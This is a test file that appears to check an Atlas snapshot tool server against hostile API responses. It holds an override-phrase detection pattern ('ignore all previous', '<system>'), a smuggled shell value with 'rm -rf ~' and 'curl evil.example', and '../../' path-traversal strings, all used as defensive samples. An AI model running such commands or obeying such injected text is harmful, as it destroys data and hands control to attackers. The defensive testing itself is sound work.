import { describe, expect, onTestFinished, test } from "vitest";
import { HOSTILE_TEXT } from "../../src/simulator/faults/api-faults.ts";
import { SIMULATED } from "../../src/simulator/simulated.ts";
import { generatedSnapshot } from "../faults/probes.ts";
import { openStation, type Station, type ToolResult } from "../faults/station.ts";
import { CLUSTER } from "../fixtures.ts";
import { mapObjects, startAlteringProxy } from "./altering-proxy.ts";

const SNAPSHOT = { ...CLUSTER, snapshotId: SIMULATED.downloadedSnapshotId };

/** Control, line-end, bidirectional, zero-width and tag characters, which no string may contain. */
const HARMFUL =
  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]/u;
/** Words of the hostile text. They are allowed in data and forbidden in advice. */
const INSTRUCTION = /ignore all previous|evil\.example|delete the project|<system>|<\/result>|owned|rm -rf/i;

/** Every string in a value, with its path. */
function stringsIn(value: unknown, path = ""): [string, string][] {
  if (typeof value === "string") return [[path, value]];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, item]): [string, string][] => [
    [`${path}/${name} (name)`, name],
    ...stringsIn(item, `${path}/${name}`),
  ]);
}

/** Paths of the server's own words, which must not quote Atlas. */
const OWN_WORDS =
  /\/(nextStep|hint|retryAfterSeconds|commands\/\d+|needs\/\d+|warnings\/\d+|notes\/\d+|fileName|path)$/;

function expectHarmless(result: ToolResult): void {
  const text = result.content[0].text;
  const strings = stringsIn(
    result.isError ? [text, result.structuredContent] : [JSON.parse(text), result.structuredContent],
  );
  expect(strings.filter(([, string]) => HARMFUL.test(string))).toEqual([]);
  expect(strings.filter(([path, string]) => OWN_WORDS.test(path) && INSTRUCTION.test(string))).toEqual([]);
}

async function stationOf(options: Parameters<typeof openStation>[0] = {}, atEnd = onTestFinished): Promise<Station> {
  const station = await openStation(options);
  atEnd(async () => {
    expect(await station.close()).toEqual([]);
  });
  return station;
}

/** Long, since a save waits for its job and a request of unknown outcome looks for one. */
const LIMIT_MS = 60_000;

describe("hostile text in every string that Atlas sends comes out as harmless data, never as advice", () => {
  const calls: [string, Record<string, unknown> | "another each time", string[]][] = [
    ["list_flex_clusters", {}, ["listProjects", "listFlexClusters"]],
    ["list_flex_clusters", { groupId: CLUSTER.groupId }, ["listFlexClusters"]],
    ["list_flex_snapshots", CLUSTER, ["listSnapshots"]],
    ["get_restore_job", { ...CLUSTER, restoreJobId: SIMULATED.restoreJobId }, ["getRestoreJob"]],
    [
      "get_restore_job",
      { ...CLUSTER, restoreJobId: SIMULATED.restoreJobId, envelope: true, waitSeconds: 1 },
      ["getRestoreJob"],
    ],
    ["list_restore_jobs", CLUSTER, ["listRestoreJobs"]],
    ["request_flex_snapshot_download", SNAPSHOT, ["requestDownload", "listRestoreJobs"]],
    ["save_flex_snapshot", "another each time", ["getSnapshot", "listRestoreJobs", "requestDownload", "getRestoreJob"]],
  ];

  test.concurrent.for(calls)(
    "of %s with %j, when it succeeds and when it fails",
    { timeout: LIMIT_MS },
    async (call, { onTestFinished }) => {
      const [tool, args, operations] = call;
      const projects = args === "another each time" ? 20 : 0;
      const { server, simulator } = await stationOf({ simulator: { projects } }, onTestFinished);
      let number = 0;
      for (const operation of operations) {
        for (const status of ["", "401+", "403+", "500+"]) {
          simulator.clearOrders();
          simulator.order(`${operation}=${status}hostile`);
          number += 1;
          // The job of an even snapshot takes time, so that the save reads it in a request of its own.
          const snapshot = { ...generatedSnapshot(number, operation === "getRestoreJob" ? 2 : 1), waitSeconds: 6 };
          expectHarmless(await server.call(tool, args === "another each time" ? snapshot : args));
        }
      }
      for (const line of server.output.stdout.split("\n").filter(Boolean))
        expect(
          stringsIn(JSON.parse(line)).filter(([, string]) => HARMFUL.test(string) && !string.startsWith("{")),
        ).toEqual([]);
      expect(server.output.stderr.replaceAll("\n", "")).not.toMatch(HARMFUL);
    },
  );

  test("of a token endpoint", async () => {
    for (const orders of ["token=hostile", "token=403+hostile", "token=500+hostile"]) {
      const { server } = await stationOf({ simulator: { orders } });
      expectHarmless(await server.call("list_flex_snapshots", CLUSTER));
    }
  });
});

test("hostile versions and times of a snapshot reach neither its file name nor its restore commands", async () => {
  let target = "";
  const shell = '8.0.16"; rm -rf ~ #$(curl evil.example)`id`';
  const baseUrl = await startAlteringProxy(
    () => target,
    (json) =>
      mapObjects(json, (object) => ({
        ...object,
        ...("mongoDBVersion" in object ? { mongoDBVersion: shell + HOSTILE_TEXT } : {}),
        ...("finishTime" in object
          ? { finishTime: `../../evil ${HOSTILE_TEXT}`, startTime: shell, scheduledTime: shell }
          : {}),
        ...("instanceName" in object ? { instanceName: `../../${shell}`, projectId: shell } : {}),
      })),
  );
  const { server, simulator } = await stationOf({ env: { MONGODB_ATLAS_BASE_URL: baseUrl } });
  target = simulator.baseUrl;
  const saved = await server.call("save_flex_snapshot", SNAPSHOT);
  expect(saved.structuredContent).toMatchObject({
    state: "complete",
    fileName: `${CLUSTER.name}-${SIMULATED.downloadedSnapshotId}.tgz`,
  });
  const { fileName } = saved.structuredContent;
  const listed = await server.call("list_saved_snapshots", {});
  const checked = await server.call("verify_saved_snapshot", { fileName });
  for (const result of [saved, listed, checked]) expectHarmless(result);
  expect(checked.structuredContent).toMatchObject({ restore: { kind: "data-directory" } });
  expect(JSON.stringify(checked.structuredContent.restore)).not.toMatch(/evil|curl|rm -rf|`/);
});
